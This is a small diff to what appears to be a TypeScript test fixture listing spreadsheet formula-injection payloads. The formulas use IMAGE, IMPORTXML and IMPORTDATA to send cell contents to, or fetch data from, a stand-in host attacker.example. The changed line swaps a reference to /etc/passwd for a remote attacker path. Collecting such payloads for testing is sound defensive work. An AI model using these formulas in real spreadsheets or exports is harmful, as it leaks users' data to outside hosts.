@@ -32,7 +32,7 @@ export const injectionPayloads: readonly string[] = [
   '=IMAGE("https://attacker.example/"&A1)',
   '=IMPORTXML(CONCAT("https://attacker.example?v=",CONCATENATE(A2:E2)),"//a/a10")',
   '=IMPORTDATA("https://attacker.example/x.csv")',
-  "='file:///etc/passwd'#$passwd.A1",
+  "='file://attacker.example/passwd'#$passwd.A1",
   '=RTD("attacker.server","","x")',
   '=INDIRECT("Accounts!A1")',
   // Behind white space, line breaks and what is not seen.
